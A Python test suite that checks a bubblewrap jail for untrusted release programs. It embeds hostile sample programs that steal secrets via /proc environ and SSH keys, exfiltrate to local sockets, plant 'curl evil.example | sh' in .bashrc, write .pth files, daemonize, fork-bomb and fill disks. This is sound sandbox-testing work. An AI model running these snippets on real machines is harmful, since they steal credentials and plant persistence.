"""Hostile release programs against `ub official truth`'s jail.

One jailed run holds every hostile program of the issue beside good release-like programs; each test checks that
one attack was blocked (on the host side: the secret is not in any landed value, the file is unchanged, the socket
got nothing, no process is left) and that the good programs landed. A control run of the attacks that are safe to
run unjailed (``jail=False``) shows that each of them does succeed without the jail, so the checks can fail.
The whole-program limits are checked with the cgroup where this machine offers one, and again with the fallback
(rlimits and the watchdog), which is what an ordinary user gets.
"""

from __future__ import annotations

import json
import os
import shutil
import site
import socket
import subprocess
import sys
import sysconfig
import textwrap
import threading
import uuid
from pathlib import Path

import pytest
from support.truth_runner import as_nobody, values_by_uid

from ub_core.release_tools.official_truth import Limits

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the jail needs Linux namespaces")

ROOT = Path(__file__).resolve().parents[2]
TOKEN = uuid.uuid4().hex[:12]
SECRET = f"hf_secret_{TOKEN}"
SECRETS = {"HF_TOKEN": SECRET, "OPENAI_API_KEY": f"sk-{TOKEN}"}
MARKER = f"ub-hostile-daemon-{TOKEN}"
LIMITS = Limits(wall_s=30.0, cpu_s=3, memory_mb=600, max_output_mb=64.0, n_values=10_000, max_procs=16,
                scratch_mb=16, max_files=500)
F_MAIN = "textual_explicit_concentrated_gpt-5.4"
F_SIBLINGS = "code_explicit_concentrated_gpt-5.4"
F_FORGERY = "code_implicit_concentrated_gpt-5.4"
PAD = "print((out + ['x'] * 10000)[:10000])\n"

GOOD = {
    (F_MAIN, "good-numpy"): "import numpy as np\nprint(list(np.random.default_rng(1).normal(5, 2, 10000)))\n",
    (F_MAIN, "good-scipy"):
        "from scipy.stats import gamma\nprint(gamma.rvs(2.0, size=10000, random_state=3).tolist())\n",
    (F_MAIN, "good-labels"): "import random\nprint(['\\n'.join(random.sample('ABC', 3)) for _ in range(10000)])\n",
    (F_MAIN, "good-shuffle"): "import random\nprint([random.sample([3, 2, 1], 3) for _ in range(10000)])\n",
}


def _bwrap_or_fail() -> None:
    if shutil.which("bwrap") is None:
        pytest.fail("bubblewrap (bwrap) is not installed, so the jail cannot be tested: `bash scripts/test.sh` (the "
                    "README's test command) installs it, or run `apt-get install -y bubblewrap`")


def _hostile(home: Path, out: Path, codes: Path, tcp_port: int, unix_name: str) -> dict:
    """The hostile programs of the issue: (folder, uid) -> source."""
    return {
        # 1. secrets: the parent's environment through /proc, the user's files
        (F_MAIN, "env-theft"): textwrap.dedent("""
            import os
            pids = [p for p in os.listdir('/proc') if p.isdigit()]
            def ppid(pid):
                try:
                    return int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])
                except Exception:
                    return 0
            chain, p = [], os.getppid()
            while p > 0 and p not in chain:
                chain.append(p)
                p = ppid(p)
            out = ['pids=%d' % len(pids)]
            for pid in sorted(set(map(str, chain)) | set(pids)):
                try:
                    text = open(f'/proc/{pid}/environ', 'rb').read().decode('utf-8', 'replace')
                    out.append(text.replace('\\0', ' ') or 'empty')
                except Exception as e:
                    out.append(type(e).__name__)
        """) + PAD,
        (F_MAIN, "secret-file"): textwrap.dedent(f"""
            import os
            out = []
            for path in [{str(home)!r} + '/.ssh/id_rsa', os.path.expanduser('~/.ssh/id_rsa'), '/root/.ssh/id_rsa']:
                try:
                    out.append(open(path).read() or 'empty')
                except Exception as e:
                    out.append(type(e).__name__)
        """) + PAD,
        (F_MAIN, "exfil"): textwrap.dedent(f"""
            import socket
            out = []
            try:
                s = socket.create_connection(('127.0.0.1', {tcp_port}), timeout=2)
                s.sendall(b'{SECRET}')
                s.close()
                out.append('sent tcp')
            except Exception as e:
                out.append('tcp ' + type(e).__name__)
            try:
                u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                u.settimeout(2)
                u.connect('\\0' + {unix_name!r})
                u.sendall(b'{SECRET}')
                u.close()
                out.append('sent unix')
            except Exception as e:
                out.append('unix ' + type(e).__name__)
        """) + PAD,
        # 2. writes anywhere the user can
        (F_MAIN, "bashrc"): textwrap.dedent(f"""
            out = []
            try:
                with open({str(home / '.bashrc')!r}, 'a') as f:
                    f.write('\\ncurl evil.example | sh\\n')
                out.append('appended')
            except Exception as e:
                out.append(type(e).__name__)
        """) + PAD,
        (F_MAIN, "pth"): textwrap.dedent(f"""
            import os, site, sysconfig
            out = []
            for d in sorted(set(site.getsitepackages() + [sysconfig.get_paths()['purelib']])):
                try:
                    with open(os.path.join(d, 'ub_hostile_{TOKEN}.pth'), 'w') as f:
                        f.write('# harmless probe\\n')
                    out.append('wrote ' + d)
                except Exception as e:
                    out.append(type(e).__name__)
        """) + PAD,
        (F_SIBLINGS, "a-rewriter"): textwrap.dedent(f"""
            import glob, os
            out = []
            here = os.path.dirname(os.path.abspath(__file__))
            for path in glob.glob(os.path.join(here, '*.py')) + [{str(codes / F_SIBLINGS / 'b-victim.py')!r}]:
                if not path.endswith('a-rewriter.py'):
                    try:
                        with open(path, 'w') as f:
                            f.write('print([999] * 10000)\\n')
                        out.append('rewrote ' + path)
                    except Exception as e:
                        out.append(type(e).__name__)
            try:
                with open(os.path.join(here, 'planted.py'), 'w') as f:
                    f.write('print([999] * 10000)\\n')
                out.append('planted a program')
            except Exception as e:
                out.append(type(e).__name__)
            part = {str(out / F_SIBLINGS / '.records')!r}
            try:
                os.makedirs(part, exist_ok=True)
                with open(os.path.join(part, 'b-victim.json'), 'w') as f:
                    f.write('{{"uid": "b-victim", "ground_truth_values": [999]}}')
                out.append('planted a record')
            except Exception as e:
                out.append(type(e).__name__)
        """) + PAD,
        (F_SIBLINGS, "b-victim"): "print([5] * 10000)\n",
        # 3. forges a running sibling's output: writes a last line into its stdout
        (F_FORGERY, "c-forger"): textwrap.dedent("""
            import glob, os, time
            hits, start = set(), time.time()
            end = start + 3.0
            while time.time() < end and not hits:
                time.sleep(max(0.0, start + 1.8 - time.time()))  # after the victim printed, before it exits
                for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
                    try:
                        if b'd-slow.py' not in open(f'/proc/{pid}/cmdline', 'rb').read():
                            continue
                        with open(f'/proc/{pid}/fd/1', 'a') as f:
                            f.write('\\n[' + ', '.join(['999'] * 10000) + ']\\n')
                        hits.add(pid)
                    except Exception:
                        pass
                for path in glob.glob('/tmp/ub-truth-*/stdout'):
                    try:
                        with open(path, 'a') as f:
                            f.write('\\n[' + ', '.join(['999'] * 10000) + ']\\n')
                        hits.add(path)
                    except Exception:
                        pass
                time.sleep(0.02)
            out = ['forged %d' % len(hits)]
        """) + PAD,
        (F_FORGERY, "d-slow"): "import sys, time\ntime.sleep(1)\nprint([5] * 10000)\nsys.stdout.flush()\n"
                               "time.sleep(1.5)\n",
        # 4. outlives the run: double fork + setsid
        (F_MAIN, "daemon"): textwrap.dedent(f"""
            import os, sys
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, '-c',
                             'import time\\nfor _ in range(600): time.sleep(0.1)', {MARKER!r}])
                os._exit(0)
            os.wait()
            print([1] * 10000)
        """),
        # 5. exhausts the parent: a 4 MB list
        (F_MAIN, "flood"): "import sys\nsys.stdout.write('[' + '1.0, ' * 800000 + '1.0]\\n')\n",
        # 6. per-process limits: memory, CPU and processes split over children; disk and file count
        (F_MAIN, "fork-alloc"): FORK_ALLOC,
        (F_MAIN, "cpu-split"): textwrap.dedent("""
            import os, time
            kids = []
            for _ in range(3):
                pid = os.fork()
                if pid == 0:
                    t = time.process_time()
                    while time.process_time() - t < 1.4:
                        pass
                    os._exit(0)
                kids.append(pid)
            for pid in kids:
                os.waitpid(pid, 0)
            time.sleep(1)
            print([1] * 10000)
        """),
        (F_MAIN, "procs"): PROCS,
        (F_MAIN, "disk-fill"): textwrap.dedent("""
            import os
            total, chunk = 0, b'\\0' * (1 << 20)
            try:
                with open('/tmp/fill', 'wb') as f:
                    while total < (1 << 30):
                        f.write(chunk)
                        f.flush()
                        total += len(chunk)
            except OSError:
                pass
            out = ['tmp %d' % total]
            for d in ['/', '/usr', '/program', '/var/tmp', '/home', '/dev', '/proc', '/etc']:
                try:
                    with open(os.path.join(d, 'fill'), 'wb') as f:
                        f.write(chunk)
                    out.append('wrote ' + d)
                except OSError as e:
                    out.append(d + ' ' + type(e).__name__)
        """) + PAD,
        (F_MAIN, "shm-fill"): textwrap.dedent("""
            import time
            chunk = b'\\0' * (1 << 20)
            for path in ('/tmp/fill', '/dev/shm/fill'):
                try:
                    with open(path, 'wb') as f:
                        for _ in range(1024):
                            f.write(chunk)
                            f.flush()
                except OSError:
                    pass
            time.sleep(2)
            print([1] * 10000)
        """),
        (F_MAIN, "file-fill"): textwrap.dedent("""
            import time
            for i in range(20000):
                open('/tmp/f%d' % i, 'w').close()
            time.sleep(2)
            print([1] * 10000)
        """),
        # terminal escapes in what the runner prints about a program
        (F_MAIN, "escapes"):
            "import sys\nsys.stderr.write('\\x1b]0;pwned\\x07\\x1b[2J\\x0dALL GOOD\\n')\nsys.exit(1)\n",
    }


FORK_ALLOC = textwrap.dedent("""
    import os, sys, time
    kids = []
    for _ in range(6):
        pid = os.fork()
        if pid == 0:
            try:
                block = b'\\1' * (150 * 1024 * 1024)
                time.sleep(2)
                os._exit(0)
            except MemoryError:
                os._exit(3)
        kids.append(pid)
    ok = sum(os.waitpid(pid, 0)[1] == 0 for pid in kids)
    if ok < 6:
        sys.exit(f'only {ok} of 6 children could allocate')
    print([ok] * 10000)
""")
PROCS = textwrap.dedent("""
    import os, sys, time
    kids = []
    try:
        for _ in range(40):
            pid = os.fork()
            if pid == 0:
                time.sleep(3)
                os._exit(0)
            kids.append(pid)
    except OSError as e:
        sys.exit(f'fork failed after {len(kids)} children: {e}')
    time.sleep(1)
    print([len(kids)] * 10000)
""")


class _Listener:
    """A TCP socket on the host's 127.0.0.1 and an abstract unix socket: what a program sends them is kept."""

    def __init__(self):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.unix_name = f"ub-hostile-{TOKEN}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.unix_name)
        self.unix.listen()
        self.received: list[bytes] = []
        self._stop = False
        self._threads = [threading.Thread(target=self._serve, args=(s,), daemon=True) for s in (self.tcp, self.unix)]
        for t in self._threads:
            t.start()

    def _serve(self, sock):
        sock.settimeout(0.1)
        while not self._stop:
            try:
                conn, _ = sock.accept()
            except (socket.timeout, OSError):
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(4096) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self):
        self._stop = True
        for t in self._threads:
            t.join(timeout=2)
        self.tcp.close()
        self.unix.close()


def _write(codes: Path, programs: dict) -> None:
    for (folder, uid), code in programs.items():
        (codes / folder).mkdir(parents=True, exist_ok=True)
        (codes / folder / f"{uid}.py").write_text(code)


def _processes_with(marker: str) -> list[int]:
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{name}/cmdline").read_bytes():
                    found.append(int(name))
            except OSError:
                pass
    return found


def _host_site_dirs() -> list[str]:
    return sorted(set(site.getsitepackages() + [sysconfig.get_paths()["purelib"]]))


def _remove_pth() -> list[str]:
    """Remove (and name) any probe .pth a program managed to write into this Python's site-packages."""
    written = []
    for d in _host_site_dirs():
        p = Path(d) / f"ub_hostile_{TOKEN}.pth"
        if p.exists():
            written.append(str(p))
            p.unlink()
    return written


_RUNNER = """
import json, sys
from ub_core.release_tools.official_truth import Limits, build_truth
codes, out, kwargs, limits = sys.argv[1], sys.argv[2], json.loads(sys.argv[3]), json.loads(sys.argv[4])
lines = []
s = build_truth(codes, out, trust_release_code=True, workers=2, limits=Limits(**limits), progress=False,
                log=lines.append, **kwargs)
print(json.dumps({"failed": {f.job.uid: f.reason for f in s.failed}, "sandbox": s.sandbox, "lines": lines}))
"""


def _run(tmp: Path, programs_of, *, jail=True, cgroups=None, limits=LIMITS):
    """Write a release and run it from a `ub` process whose environment holds the secrets from its start (as a
    user's shell gives them), HOME a temporary home with a key and a shell start-up file; return what the host
    saw."""
    _bwrap_or_fail()
    home, codes, out = tmp / "home", tmp / "release" / "ground_truth_codes", tmp / "out"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY----- {SECRET}\n")
    (home / ".bashrc").write_text("# the user's shell start-up file\n")
    listener = _Listener()
    programs = programs_of(home, out, codes, listener.port, listener.unix_name)
    _write(codes, programs)
    env = {"PATH": os.environ.get("PATH", os.defpath), "HOME": str(home), "PYTHONPATH": str(ROOT), **SECRETS}
    limit_args = {k: getattr(limits, k) for k in Limits.__dataclass_fields__}
    try:
        proc = subprocess.run([sys.executable, "-c", _RUNNER, str(codes), str(out),
                               json.dumps({"jail": jail, "cgroups": cgroups}), json.dumps(limit_args)],
                              capture_output=True, text=True, env=env, timeout=300)
        left = _processes_with(MARKER)
    finally:
        listener.close()
        pth = _remove_pth()
        for pid in _processes_with(MARKER):  # the control run's daemon
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    assert proc.returncode == 0, proc.stderr[-3000:]
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    return {**result, "records": values_by_uid(out), "received": listener.received, "pth": pth, "left": left,
            "home": home, "codes": codes, "out": out, "programs": programs}


@pytest.fixture(scope="module")
def jailed(tmp_path_factory):
    def programs(home, out, codes, port, name):
        return {**GOOD, **_hostile(home, out, codes, port, name)}

    return _run(tmp_path_factory.mktemp("jailed"), programs)


def _landed(run, uid) -> list:
    assert uid in run["records"], (uid, run["failed"].get(uid))
    return run["records"][uid]


# ------------------------------------------------------------------------------------------------ the jailed run

@pytest.mark.slow
def test_good_programs_land_beside_the_hostile_ones(jailed):
    rec = jailed["records"]
    assert len(_landed(jailed, "good-numpy")) == 10_000 and len(_landed(jailed, "good-scipy")) == 10_000
    assert set(_landed(jailed, "good-labels")) == {"\n".join(p) for p in ["ABC", "ACB", "BAC", "BCA", "CAB", "CBA"]}
    assert {tuple(p) for p in _landed(jailed, "good-shuffle")} <= {(1, 2, 3), (1, 3, 2), (2, 1, 3), (2, 3, 1),
                                                                   (3, 1, 2), (3, 2, 1)}
    assert rec["b-victim"] == [5] * 10_000 and rec["d-slow"] == [5] * 10_000
    assert "jail" in jailed["sandbox"]


def test_parent_environment_is_out_of_reach(jailed):
    values = _landed(jailed, "env-theft")
    blob = "\n".join(values)
    assert all(v not in blob for v in SECRETS.values())
    assert int(values[0].split("=")[1]) <= 3  # its own pid namespace: the jail's init, itself, perhaps its child


def test_users_files_are_out_of_reach(jailed):
    values = _landed(jailed, "secret-file")
    assert SECRET not in "\n".join(values)
    assert set(values[:3]) <= {"FileNotFoundError", "PermissionError"}


def test_no_loopback_exfiltration(jailed):
    values = _landed(jailed, "exfil")
    assert jailed["received"] == []
    assert not any(v.startswith("sent") for v in values[:2])


def test_shell_startup_file_is_untouched(jailed):
    assert _landed(jailed, "bashrc")[0] != "appended"
    assert (jailed["home"] / ".bashrc").read_text() == "# the user's shell start-up file\n"


def test_site_packages_stay_read_only(jailed):
    values = _landed(jailed, "pth")
    assert jailed["pth"] == [] and not any(v.startswith("wrote") for v in values)


def test_siblings_and_records_cannot_be_rewritten(jailed):
    values = _landed(jailed, "a-rewriter")
    assert not any(v.startswith(("rewrote", "planted a program")) for v in values)
    folder = jailed["codes"] / F_SIBLINGS
    assert (folder / "b-victim.py").read_text() == "print([5] * 10000)\n" and not (folder / "planted.py").exists()
    assert jailed["records"]["b-victim"] == [5] * 10_000  # its own output, not a planted record


def test_a_running_siblings_output_cannot_be_forged(jailed):
    assert _landed(jailed, "c-forger")[0] == "forged 0"
    assert jailed["records"]["d-slow"] == [5] * 10_000


def test_nothing_outlives_its_program(jailed):
    assert _landed(jailed, "daemon") == [1] * 10_000
    assert jailed["left"] == []


def test_a_flood_is_cut_at_the_expected_count(jailed):
    assert jailed["failed"]["flood"] == "printed more than 10000 values"


def test_memory_is_bounded_for_the_whole_program(jailed):
    assert jailed["failed"]["fork-alloc"].startswith("memory limit (600 MB for the whole program)")


def test_cpu_is_bounded_for_the_whole_program(jailed):
    assert jailed["failed"]["cpu-split"] == "CPU limit (3 s for the whole program) exceeded"


def test_process_count_is_bounded(jailed):
    reason = jailed["failed"]["procs"]
    assert "process limit (16 tasks)" in reason or "Resource temporarily unavailable" in reason, reason


def test_disk_writes_stay_in_the_capped_scratch(jailed):
    values = _landed(jailed, "disk-fill")
    assert values[0].startswith("tmp ") and int(values[0].split()[1]) <= 16 * 2**20
    assert not any(v.startswith("wrote") for v in values[1:9]), values[:9]
    assert jailed["failed"]["shm-fill"] == "scratch limit (16 MB in /tmp and /dev/shm) reached"
    assert jailed["failed"]["file-fill"] == "scratch file limit (500 files) reached"


def test_control_characters_are_escaped_in_reasons(jailed):
    reason = jailed["failed"]["escapes"]
    assert "\x1b" not in reason and "\r" not in reason and "\x07" not in reason
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x0dALL GOOD" in reason
    assert all("\x1b" not in line and "\r" not in line for line in jailed["lines"])


def test_every_hostile_program_is_accounted_for(jailed):
    """Each hostile program either landed (its attack reported failing inside the jail) or failed with a reason;
    none is missing and every reason is one line."""
    uids = {uid for _, uid in jailed["programs"]}
    assert uids == set(jailed["records"]) | set(jailed["failed"])
    assert all("\n" not in r for r in jailed["failed"].values())


# ------------------------------------------------------------------------------------------------ fallback limits

@pytest.mark.slow  # a second run of programs: the full suite runs it
def test_whole_program_limits_without_cgroups(tmp_path):
    """What an ordinary user gets (no writable cgroup): the watchdog and rlimits bound the same programs."""
    def programs(home, out, codes, port, name):
        return {(F_MAIN, "fork-alloc"): FORK_ALLOC, (F_MAIN, "procs"): PROCS,
                (F_MAIN, "good-numpy"): GOOD[(F_MAIN, "good-numpy")]}

    run = _run(tmp_path, programs, cgroups=False)
    assert "watchdog" in run["sandbox"]
    assert run["failed"]["fork-alloc"].startswith("memory limit (600 MB for the whole program)")
    reason = run["failed"]["procs"]
    assert "process limit (16 tasks)" in reason or "Resource temporarily unavailable" in reason, reason
    assert len(_landed(run, "good-numpy")) == 10_000


# ------------------------------------------------------------------------------------------------ control

@pytest.mark.slow  # a second run of programs: the full suite runs it
def test_without_the_jail_the_attacks_succeed(tmp_path):
    """The control: the attacks that are safe to let loose (a temporary HOME, the test's own socket, a sibling of
    the test's) do succeed with ``jail=False``, so the checks above would catch an escape. Not run unjailed: the
    site-packages .pth write, the disk and memory fills."""
    keep = {"env-theft", "secret-file", "exfil", "bashrc", "c-forger", "d-slow", "daemon"}

    def programs(home, out, codes, port, name):
        return {k: v for k, v in _hostile(home, out, codes, port, name).items() if k[1] in keep}

    limits = Limits(wall_s=30.0, cpu_s=10, memory_mb=1024, n_values=10_000, max_procs=16)
    run = _run(tmp_path, programs, jail=False, cgroups=False, limits=limits)
    assert any("--no-jail" in line and "read your files" in line for line in run["lines"])
    assert SECRET in "\n".join(run["records"]["env-theft"])
    assert SECRET in "\n".join(run["records"]["secret-file"])
    assert any(SECRET.encode() in r for r in run["received"])
    assert "curl evil.example" in (run["home"] / ".bashrc").read_text()
    assert run["records"]["d-slow"] == [999] * 10_000 and run["records"]["c-forger"][0] == "forged 1"
    assert run["left"] != []  # the daemon outlived its program (killed by the fixture afterwards)


# ------------------------------------------------------------------------------------------------ parent memory

def test_parent_memory_stays_small_on_a_flood(tmp_path):
    """A 4 MB printed list would take the parent to ~2 GB if it were parsed first and counted after: the stream is
    counted and cut, and the whole `ub` process stays far under 300 MB."""
    _bwrap_or_fail()
    codes = tmp_path / "ground_truth_codes" / F_MAIN
    codes.mkdir(parents=True)
    (codes / "flood.py").write_text("import sys\nsys.stdout.write('[' + '1.0, ' * 800000 + '1.0]\\n')\n")
    # VmHWM: the peak resident memory of this process image (ru_maxrss would also count the pytest process it
    # was started from, which the kernel carries over at exec)
    code = ("import sys\nfrom ub_core.cli import main\nrc = main(sys.argv[1:])\n"
            "hwm = [ln for ln in open('/proc/self/status') if ln.startswith('VmHWM')][0].split()[1]\n"
            "print('PEAK', hwm, file=sys.stderr)\nsys.exit(rc)\n")
    proc = subprocess.run([sys.executable, "-c", code, "official", "truth", "--codes", str(tmp_path), "--out",
                           str(tmp_path / "out"), "--trust-release-code", "--no-progress"], capture_output=True,
                          text=True, env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)
    assert proc.returncode == 1 and "printed more than 10000 values" in proc.stdout, proc.stdout + proc.stderr
    peak_kb = int(proc.stderr.split("PEAK")[1].split()[0])
    assert peak_kb * 1024 < 300 * 2**20, peak_kb


# ------------------------------------------------------------------------------------------------ refusal

def _cli(args, env, tmp_path):
    return subprocess.run([sys.executable, "-m", "ub_core.cli", "official", "truth", "--codes", str(tmp_path),
                           "--out", str(tmp_path / "out"), "--trust-release-code", "--no-progress", *args],
                          capture_output=True, text=True, env={**env, "PYTHONPATH": str(ROOT)}, timeout=120)


@pytest.mark.slow
def test_refuses_without_bubblewrap_unless_no_jail(tmp_path):
    codes = tmp_path / "ground_truth_codes" / F_MAIN
    codes.mkdir(parents=True)
    (codes / "u1.py").write_text("print([1] * 10000)\n")
    env = {**os.environ, "PATH": str(tmp_path / "empty-path")}
    proc = _cli([], env, tmp_path)
    assert proc.returncode == 2 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert "bubblewrap (bwrap) is not installed" in proc.stderr and "--no-jail" in proc.stderr
    assert not (tmp_path / "out").exists()
    proc = _cli(["--no-jail"], env, tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    warning = [ln for ln in proc.stderr.splitlines() if "WARNING" in ln]
    assert len(warning) == 1 and "read your files" in warning[0] and "network" in warning[0]
    assert "NO JAIL" in proc.stdout


def test_refusal_names_a_jail_that_cannot_be_made(tmp_path):
    """User namespaces refused (as an unprivileged user's kernel or AppArmor does): bwrap's own error, one line."""
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "bwrap").write_text("#!/bin/sh\nif [ \"$1\" = --version ]; then echo 'bubblewrap 0.8.0'; exit 0; fi\n"
                                "echo 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    (fake / "bwrap").chmod(0o755)
    codes = tmp_path / "ground_truth_codes" / F_MAIN
    codes.mkdir(parents=True)
    (codes / "u1.py").write_text("print([1] * 10000)\n")
    proc = _cli([], {**os.environ, "PATH": f"{fake}:{os.environ.get('PATH', '')}"}, tmp_path)
    assert proc.returncode == 2 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert "setting up uid map: Permission denied" in proc.stderr and "--no-jail" in proc.stderr


def test_cli_escapes_control_characters_in_names_and_reasons(tmp_path):
    codes = tmp_path / "ground_truth_codes" / F_MAIN
    codes.mkdir(parents=True)
    (codes / "evil\x1b[31m\r.py").write_text("print([1] * 10000)\n")
    (codes / "loud.py").write_text("import sys\nsys.stderr.write('\\x1b[2J\\x0dfine\\n')\nsys.exit(2)\n")
    _bwrap_or_fail()
    proc = _cli([], os.environ, tmp_path)
    assert proc.returncode == 1
    for stream in (proc.stdout, proc.stderr):
        assert "\x1b" not in stream and "\r" not in stream
    assert "evil\\x1b[31m\\x0d: file or folder name is not a plain uid" in proc.stdout
    assert "loud: exited with status 2: \\x1b[2J\\x0dfine" in proc.stdout


# ------------------------------------------------------------------------------------------------ ordinary user

@pytest.mark.slow  # a second run of programs: the full suite runs it
def test_jail_works_for_an_ordinary_user():
    """As an unprivileged user (unprivileged user namespaces): a good program lands and the env theft finds
    nothing. Run as root, the test drops to uid 65534 first (in a mount namespace where the interpreter's prefix
    and the test's folder are reachable by that user)."""
    _bwrap_or_fail()
    import tempfile

    work = Path(tempfile.mkdtemp(prefix="ub-user-test-"))  # reachable by another user (tmp_path is not)
    try:
        _as_ordinary_user(work)
    finally:
        shutil.rmtree(work, ignore_errors=True)


def _as_ordinary_user(work: Path) -> None:
    codes = work / "ground_truth_codes" / F_MAIN
    codes.mkdir(parents=True)
    (codes / "good.py").write_text(GOOD[(F_MAIN, "good-numpy")])
    (codes / "procs.py").write_text(PROCS)
    (codes / "steal.py").write_text("import os\nout = [open('/proc/%s/environ' % p, 'rb').read().decode() or 'e' "
                                    "for p in os.listdir('/proc') if p.isdigit()]\n" + PAD)
    cmd = [sys.executable, "-m", "ub_core.cli", "official", "truth", "--codes", str(work), "--out",
           str(work / "out"), "--trust-release-code", "--no-progress"]
    env = {"PATH": os.environ.get("PATH", os.defpath), "HF_TOKEN": SECRET, "PYTHONPATH": str(ROOT)}
    if os.geteuid() == 0:
        for p in [work, *work.rglob("*")]:
            p.chmod(0o777 if p.is_dir() else 0o666)
        cmd = as_nobody(cmd)
    proc = subprocess.run(cmd + ["--max-procs", "16"], capture_output=True, text=True, env=env, timeout=180,
                          cwd="/")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "3 programs: 2 run, 0 already done, 1 failed" in proc.stdout and "bubblewrap jail" in proc.stdout
    failed = proc.stdout.split("failed textual_explicit_concentrated_gpt-5.4/procs: ")[1].splitlines()[0]
    assert "process limit (16 tasks)" in failed or "Resource temporarily unavailable" in failed, failed
    got = values_by_uid(work / "out")
    assert len(got["good"]) == 10_000 and SECRET not in "\n".join(got["steal"])


# ------------------------------------------------------------------------------------------------ links

def test_links_in_the_release_are_not_followed(tmp_path):
    """A release whose program, or whose task folder, is a symbolic link into the user's files, or whose program is
    a named pipe: refused with a reason (nothing blocks), and the folder a link points to is never shown to a
    program (the jail binds the task folder it runs)."""
    _bwrap_or_fail()
    from ub_core.release_tools.official_truth import build_truth

    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa.py").write_text(f"print(['{SECRET}'] * 10000)\n")
    codes = tmp_path / "release" / "ground_truth_codes"
    (codes / F_MAIN).mkdir(parents=True)
    (codes / F_MAIN / "key.py").symlink_to(home / ".ssh" / "id_rsa.py")
    (codes / F_MAIN / "good.py").write_text("print([1] * 10000)\n")
    (codes / "realworld_human").symlink_to(home / ".ssh", target_is_directory=True)
    os.mkfifo(codes / F_MAIN / "fifo.py")  # hashing it must not block
    s = build_truth(codes, tmp_path / "out", trust_release_code=True, limits=LIMITS, progress=False)
    failed = {f"{f.job.folder}/{f.job.uid}": f.reason for f in s.failed}
    assert failed == {f"{F_MAIN}/key": "the program is a symbolic link (not followed)",
                      f"{F_MAIN}/fifo": "the program is not a regular file",
                      "realworld_human/id_rsa": "its task folder is a symbolic link (not followed)"}
    assert values_by_uid(tmp_path / "out") == {"good": [1] * 10_000}


def test_the_watchdog_measures_only_the_jails_scratch():
    """A process seen before bwrap has moved it into its new root shows the host's /tmp (found on the release
    run: a program that writes nothing was stopped for the host's /tmp usage): it is not the scratch."""
    from ub_core.release_tools.jail import _Watchdog

    dog = _Watchdog(root=1, group=None, limits=LIMITS, jailed=True)
    assert dog._scratch([os.getpid()]) == (0, 0)
